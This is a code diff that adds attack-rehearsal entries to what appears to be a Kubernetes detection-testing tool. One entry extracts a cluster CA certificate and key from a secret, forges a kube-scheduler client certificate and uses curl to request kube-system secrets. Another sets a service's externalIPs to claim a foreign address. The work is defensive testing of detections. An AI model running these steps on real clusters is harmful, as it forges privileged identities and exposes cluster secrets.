@@ -63,6 +63,17 @@ export const cluster: Rehearsals = {
     undo: ['kubectl -n kube-system annotate configmap aws-auth tripline-rehearsal-', 'rm aws-auth.yaml'],
     note: 'Only where the cluster still reads aws-auth.',
   },
+  'kubernetes/component-identity-misused': {
+    steps: [
+      'openssl req -new -newkey rsa:2048 -nodes -keyout rehearsal.key -subj /CN=system:kube-scheduler -out rehearsal.csr',
+      'kubectl -n "$FLEET" get secret "$(kubectl -n "$FLEET" get clusters -o name | head -1 | cut -d/ -f2)-ca" -o json | jq -r \'.data["tls.crt"] | @base64d\' > ca.crt',
+      'kubectl -n "$FLEET" get secret "$(kubectl -n "$FLEET" get clusters -o name | head -1 | cut -d/ -f2)-ca" -o json | jq -r \'.data["tls.key"] | @base64d\' > ca.key',
+      'openssl x509 -req -in rehearsal.csr -CA ca.crt -CAkey ca.key -days 1 -out rehearsal.crt',
+      'curl --cacert ca.crt --cert rehearsal.crt --key rehearsal.key "$WORKLOAD_SERVER/api/v1/namespaces/kube-system/secrets" || true',
+    ],
+    undo: ['rm rehearsal.key rehearsal.csr rehearsal.crt ca.crt ca.key'],
+    note: 'WORKLOAD_SERVER is the address of the API server of that Cluster, whose audit log is watched. The refusal is the record. Reading the key is a finding too.',
+  },
   'kubernetes/controller-or-node-impersonated': {
     steps: ['kubectl get nodes --as=system:serviceaccount:kube-system:karpenter'],
     undo: nothing,
@@ -107,6 +118,15 @@ export const cluster: Rehearsals = {
     ],
     undo: ['kubectl -n flux-system delete kustomization.kustomize.toolkit.fluxcd.io tripline-rehearsal'],
     note: 'With Flux; it is suspended and applies nothing.',
+  },
+  'kubernetes/foreign-address-taken': {
+    steps: [
+      ns,
+      'kubectl -n tripline-rehearsal create service clusterip tripline-rehearsal --tcp=8888',
+      'kubectl -n tripline-rehearsal patch service tripline-rehearsal --type merge -p \'{"spec":{"externalIPs":["169.254.200.200"]}}\'',
+    ],
+    undo: [gone],
+    note: `Nothing answers at that link-local address. ${notNamed}`,
   },
   'kubernetes/host-access-pod': {
     steps: [
